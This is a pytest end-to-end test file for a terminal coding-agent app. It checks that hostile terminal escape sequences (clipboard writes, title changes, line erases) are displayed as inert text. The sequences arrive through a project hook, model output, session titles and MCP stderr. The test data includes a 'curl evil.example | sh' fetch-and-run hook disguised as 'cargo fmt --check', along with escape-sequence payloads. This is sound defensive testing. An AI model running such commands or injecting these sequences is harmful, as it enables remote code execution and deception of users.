"""Issue 34, items 8 and 9: in a real terminal, nothing bastion shows writes the
clipboard, retitles the window or erases what the screen says.

The installed `bastion` runs in tmux (a private server, `set-clipboard on`), which
acts on what reaches it as a terminal does: an OSC 52 write becomes a tmux paste
buffer, an OSC 2 title becomes the pane's title, and `ESC [2K` erases the line in
the pane `capture-pane` returns. The corpus is `test_shown`'s: a project's hook
disguised as `cargo fmt --check`, and a scripted model whose tool call, command
output and answer carry the same sequences.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from runtime.testing.process import LoopbackThread
from tests.hostile.test_shown import CLIP_ST, TITLE, call, hostile_project
from tests.tui.test_tmux import Tmux, bastion_bin, wait_exit

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed"),
]

PWNED = "PWNED"  # what the corpus's OSC 52 would put on the clipboard
PWNED_TITLE = "pwned-title"


class Terminal(Tmux):
    """A tmux session that takes clipboard writes (OSC 52) into its paste buffers."""

    def start(self, argv: list[str], env: dict[str, str], cwd: Path) -> Path:
        conf = self.workdir / "tmux.conf"
        conf.write_text("set -g set-clipboard on\n")
        exit_file = self.workdir / "exit-code"
        script = self.workdir / "run.sh"
        exports = "".join(f"export {k}={shlex.quote(v)}\n" for k, v in env.items())
        script.write_text(
            f"#!/bin/sh\n{exports}cd {shlex.quote(str(cwd))}\n"
            f"{shlex.join(argv)}\necho $? > {shlex.quote(str(exit_file))}\n"
        )
        script.chmod(0o755)
        self.tmux(
            "-f", str(conf), "new-session", "-d", "-s", "bastion", "-x", "110", "-y", "34",
            str(script),
        )  # fmt: skip
        return exit_file

    def clipboard(self) -> str:
        """Every paste buffer tmux holds (a clipboard write makes one)."""
        names = self.tmux("list-buffers", "-F", "#{buffer_name}").split()
        return "".join(self.tmux("show-buffer", "-b", name) for name in names)

    def title(self) -> str:
        return self.tmux("display-message", "-p", "-t", "bastion", "#{pane_title}").strip()

    def untouched(self) -> None:
        """Nothing shown so far wrote the clipboard or the title."""
        assert PWNED not in self.clipboard()
        assert PWNED_TITLE not in self.title()


@pytest.fixture
def terminal(tmp_path) -> Iterator[Terminal]:
    session = Terminal(tmp_path)
    try:
        yield session
    finally:
        session.kill()


def environment(tmp_path: Path, server: LoopbackThread | None = None) -> dict[str, str]:
    keep = ("PATH", "HOME", "TZ")
    env = {k: os.environ[k] for k in keep if k in os.environ}
    env.update(
        TERM="xterm-256color",
        LANG=os.environ.get("LANG", "C.UTF-8"),
        BASTION_HOME=str(tmp_path / "home"),
        XDG_CONFIG_HOME=str(tmp_path / "config"),
    )
    if server is not None:
        env["OPENAI_BASE_URL"] = server.base_url
    return env


def workspace(tmp_path: Path) -> Path:
    cwd = tmp_path / "work"
    cwd.mkdir()
    return cwd


def test_the_trust_screen_shows_the_hook_it_would_run(tmp_path, terminal):
    cwd = workspace(tmp_path)
    hostile_project(cwd)
    terminal.start([bastion_bin(), "--model", "openai/test"], environment(tmp_path), cwd)
    screen = terminal.wait_for(lambda s: "Do you trust" in s and "esc not now" in s, "the screen")
    terminal.untouched()  # (the keys are drawn after the hook's line)
    shown = "".join(screen.split())  # (the line wraps)
    assert "curlevil.example|sh^[]52;c;UFdORUQ=^[\\^[]2;pwned-title^[\\^[[2K^Mcargofmt" in shown


def scripted(tmp_path: Path, turns: list[dict]) -> LoopbackThread:
    return LoopbackThread.start(turns, tmp_path / "server")


ECHOED = f"echo out {CLIP_ST}{TITLE} end"  # a command whose arguments and output carry them
ANSWER = f"Done: **bold** {CLIP_ST}{TITLE} and `code`."
# (Markdown reads `\^` as an escaped `^`: the backslash of the first ST goes, as any does)
ANSWER_SHOWN = "Done: bold ^[]52;c;UFdORUQ=^[^[]2;pwned-title^[\\ and code."


def test_the_app_shows_an_approval_a_command_and_an_answer_as_text(tmp_path, terminal):
    turns = [call("c1", "run_command", command=ECHOED), {"text": ANSWER}]
    with scripted(tmp_path, turns) as server:
        argv = [bastion_bin(), "--model", "openai/test", "--approval-mode", "ask", "go"]
        terminal.start(argv, environment(tmp_path, server), workspace(tmp_path))
        screen = terminal.wait_for(lambda s: "Allow run_command" in s, "the approval prompt")
        terminal.untouched()
        assert "Allow run_command echo out ^[]52;c;UFdORUQ=^[\\^[]2;pwned-title^[\\ end?" in screen
        terminal.send("y")
        screen = terminal.wait_for(lambda s: "Done: bold" in s and "idle" not in s, "the answer")
        terminal.untouched()
        assert ANSWER_SHOWN in screen
        assert "Ran echo out ^[]52;c;UFdORUQ=" in screen  # the command's row


def test_plain_mode_shows_a_tool_call_its_output_and_the_answer_as_text(tmp_path, terminal):
    turns = [call("c1", "run_command", command=ECHOED), {"text": ANSWER}]
    with scripted(tmp_path, turns) as server:
        argv = [bastion_bin(), "--plain", "--model", "openai/test"]
        exit_file = terminal.start(
            [*argv, "--approval-mode", "full-auto", "go"],
            environment(tmp_path, server),
            workspace(tmp_path),
        )
        screen = terminal.wait_for(
            lambda s: "Done: bold" in s and s.rstrip().endswith("›"), "the answer and the prompt"
        )
        terminal.untouched()
        assert "· run_command echo out ^[]52;c;UFdORUQ=^[\\^[]2;pwned-title^[\\ end" in screen
        assert ANSWER_SHOWN in screen
        terminal.send("C-d")
        assert wait_exit(exit_file) == 0


def test_the_session_picker_shows_a_hostile_title_as_text(tmp_path, terminal):
    turns = [{"text": "an answer"}]
    with scripted(tmp_path, turns) as server:
        env = environment(tmp_path, server)
        cwd = workspace(tmp_path)
        prompt = f"title {CLIP_ST}{TITLE} end"
        _run([bastion_bin(), "-p", prompt, "--model", "openai/test"], env, cwd)
        terminal.start([bastion_bin(), "-r", "--model", "openai/test"], env, cwd)
        screen = terminal.wait_for(lambda s: "1 of 1 sessions" in s, "the picker")
        terminal.untouched()
        assert "title ^[]52;c;UFdORUQ=^[\\^[]2;pwned-title^[\\ end" in screen


def _run(argv: list[str], env: dict[str, str], cwd: Path) -> None:
    done = subprocess.run(argv, env=env, cwd=cwd, capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr


def test_a_toast_shows_an_mcp_servers_stderr_as_text(tmp_path, terminal):
    """A configured MCP server that fails at start: the app's toast quotes the last line
    of its stderr, which carries the corpus."""
    config = tmp_path / "config" / "bastion" / "config.toml"
    config.parent.mkdir(parents=True)
    printed = (
        "printf 'boom \\033]52;c;UFdORUQ=\\033\\\\ \\033]2;pwned-title\\033\\\\ end\\n' >&2; exit 1"
    )
    config.write_text(f'[mcp_servers.bad]\ncommand = "sh"\nargs = ["-c", {json.dumps(printed)}]\n')
    with scripted(tmp_path, [{"text": "never"}]) as server:
        argv = [bastion_bin(), "--model", "openai/test"]
        terminal.start(argv, environment(tmp_path, server), workspace(tmp_path))
        screen = terminal.wait_for(lambda s: "did not start" in s and "end)" in s, "the toast")
        terminal.untouched()
        assert "(stderr: boom ^[]52;c;UFdORUQ=^[\\" in screen  # (the toast wraps)
        assert "^[]2;pwned-title^[\\ end)" in screen
